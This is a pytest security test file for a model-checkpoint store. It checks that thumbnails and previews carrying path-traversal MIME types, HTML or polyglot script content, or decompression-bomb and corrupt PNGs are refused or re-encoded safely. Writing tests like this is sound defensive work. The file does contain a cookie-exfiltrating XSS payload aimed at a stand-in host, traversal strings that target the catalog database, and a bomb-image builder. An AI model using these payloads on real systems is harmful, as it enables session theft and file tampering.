"""Issue 21, store side: each hostile input an attacker or a careless user tried is refused in one line
or stored safely, and the store (and everything outside its home) is left as it was.

Every test here failed on the main the issue started from (checked by running this file against it).
"""

from __future__ import annotations

import base64
import io
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image, PngImagePlugin

from personalq.store import RepoStore, StoreError
from personalq.store.images import MAX_PREVIEW_PIXELS
from tests.test_store import kohya_lora_sd15, modelspec_header, snapshot, write_checkpoint


@pytest.fixture(scope="module")
def embedder():
    from personalq.store.embedder import default_embedder

    return default_embedder()


@pytest.fixture
def home(tmp_path):
    """The store's home sits one level inside tmp_path, so writes that escape it can be seen."""
    return tmp_path / "outer" / "home"


@pytest.fixture
def store(home, embedder):
    opened = RepoStore.open(home, embedder=embedder)
    yield opened
    opened.close()


def png_bytes(size=(4, 4), colour="green", **info: str) -> bytes:
    text = PngImagePlugin.PngInfo()
    for key, value in info.items():
        text.add_text(key, value)
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, format="PNG", pnginfo=text)
    return buffer.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_with_header(width: int, height: int, idat: bytes) -> bytes:
    """A PNG whose chunks all carry correct CRCs, so `Image.verify()` accepts it whatever the pixels are."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def corrupt_pixels_png() -> bytes:
    """Valid chunks, CRCs and dimensions; the compressed pixel stream is garbage."""
    return png_with_header(8, 8, b"x\x9c" + b"\xff" * 40)


def bomb_png(side: int = 20000) -> bytes:
    """A few hundred bytes that claim side x side pixels."""
    return png_with_header(side, side, zlib.compress(b"\0" * 1024))


def thumbnail_checkpoint(folder: Path, mime: str, data: bytes, name: str = "cat") -> Path:
    uri = f"data:{mime};base64," + base64.b64encode(data).decode()
    header = modelspec_header("stable-diffusion-v1/lora", "<cat>", "Cat", **{"modelspec.thumbnail": uri})
    return write_checkpoint(folder / f"{name}.safetensors", kohya_lora_sd15(), header)


def files_under(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def outside(tmp_path: Path, home: Path) -> dict[str, bytes]:
    return {k: v for k, v in files_under(tmp_path).items() if not (tmp_path / k).is_relative_to(home)}


# ---------------------------------------------------------------- 1: the thumbnail MIME subtype as a path


@pytest.mark.parametrize(
    "mime",
    [
        "image/x/../../../catalog.db",  # previews/cat/0.x/../../../catalog.db is the catalog
        "image/x/../../../../escaped",  # one more level: beside the home
        "image/png/../../../checkpoints/cat.safetensors",
    ],
)
def test_a_thumbnail_mime_type_cannot_name_a_path(store, home, tmp_path, mime):
    source = thumbnail_checkpoint(tmp_path, mime, png_bytes())
    before_outside = outside(tmp_path, home)
    card = store.add(source)
    assert [p.relative_to(home).as_posix() for p in card.previews] == ["previews/cat/0.png"]
    assert outside(tmp_path, home) == before_outside
    assert sorted(files_under(home / "previews")) == ["cat/0.png"]
    assert card.file_path.read_bytes() == source.read_bytes()
    store.close()
    with RepoStore.open(home, embedder=store.embedder) as again:  # the catalog is still a catalog
        assert [c.id for c in again.cards()] == ["cat"]


# ---------------------------------------------------------------- 2: stored XSS through the thumbnail


def test_an_html_thumbnail_is_refused_and_nothing_is_written(store, home, tmp_path):
    before = snapshot(store)
    html = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>"
    with pytest.raises(StoreError) as refused:
        store.add(thumbnail_checkpoint(tmp_path, "image/html", html))
    assert "modelspec.thumbnail" in str(refused.value) and "\n" not in str(refused.value)
    assert snapshot(store) == before
    assert not [p for p in home.rglob("*") if p.suffix.lower() in (".html", ".htm", ".svg")]


@pytest.mark.parametrize("mime", ["image/html", "image/svg+xml", "text/html", "image/jpeg"])
def test_a_thumbnail_is_stored_as_the_format_it_decodes_as(store, home, tmp_path, mime):
    """The suffix (and so the Content-Type the app serves) follows the bytes, never the label."""
    polyglot = png_bytes() + b"<script>alert(1)</script>"
    card = store.add(thumbnail_checkpoint(tmp_path, mime, polyglot))
    (stored,) = card.previews
    assert stored.name == "0.png" and b"<script>" not in stored.read_bytes()


# ---------------------------------------------------------------- 7 (and 6): images fully decoded, re-encoded


@pytest.mark.parametrize(
    "data,reason",
    [
        (corrupt_pixels_png(), "unreadable image"),
        (bomb_png(), "unreadable image"),
        (png_with_header(5000, 5000, zlib.compress(b"\0" * 64)), f"{MAX_PREVIEW_PIXELS:,}-pixel preview limit"),
        (png_bytes()[:-30], "unreadable image"),
        (b"GIF89a" + b"\0" * 64, "unreadable image"),
    ],
    ids=["corrupt-pixels", "decompression-bomb", "over-pixel-limit", "truncated", "not-png-jpeg-webp"],
)
@pytest.mark.parametrize("where", ["preview", "thumbnail"])
def test_images_that_verify_but_do_not_decode_are_refused_in_one_line(store, tmp_path, data, reason, where):
    before = snapshot(store)
    if where == "preview":
        preview = tmp_path / "preview.png"
        preview.write_bytes(data)
        attempt = lambda: store.add(thumbnail_checkpoint(tmp_path, "image/png", png_bytes()), previews=[preview])  # noqa: E731
    else:
        attempt = lambda: store.add(thumbnail_checkpoint(tmp_path, "image/png", data))  # noqa: E731
    with pytest.raises(StoreError) as refused:
        attempt()
    assert reason in str(refused.value) and "\n" not in str(refused.value)
    assert snapshot(store) == before


def test_previews_are_stored_without_their_metadata(store, tmp_path):
    png = tmp_path / "a.png"
    png.write_bytes(png_bytes(Comment="home address: 1 Secret Lane", Software="evil"))
    jpeg = tmp_path / "b.webp.jpg"
    exif = Image.Exif()
    exif[0x010F] = "CameraMaker"  # Make
    exif[0x8825] = {2: (51.0, 30.0, 0.0)}  # GPS
    Image.new("RGB", (8, 8), "red").save(jpeg, format="JPEG", exif=exif.tobytes())
    card = store.add(thumbnail_checkpoint(tmp_path, "image/png", png_bytes()), previews=[png, jpeg])
    assert [p.name for p in card.previews] == ["0.png", "1.jpg"]
    for path in card.previews:
        with Image.open(path) as image:
            image.load()
            assert not image.getexif() and "Comment" not in image.info and "Software" not in image.info
            assert b"Secret Lane" not in path.read_bytes() and b"CameraMaker" not in path.read_bytes()
